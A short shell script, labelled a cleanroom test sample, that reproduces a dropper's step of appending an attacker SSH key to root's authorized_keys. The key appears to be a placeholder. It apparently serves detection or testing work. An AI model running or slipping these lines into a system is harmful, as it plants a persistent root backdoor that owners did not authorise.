#!/bin/sh
# cleanroom test sample: the dropper's key-planting step
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEAq2Z1Y2tlZC10ZXN0LWtleS1ub3QtcmVhbC1jbGVhbnJvb20tZml4dHVyZS0wMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAw mdrfckr" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
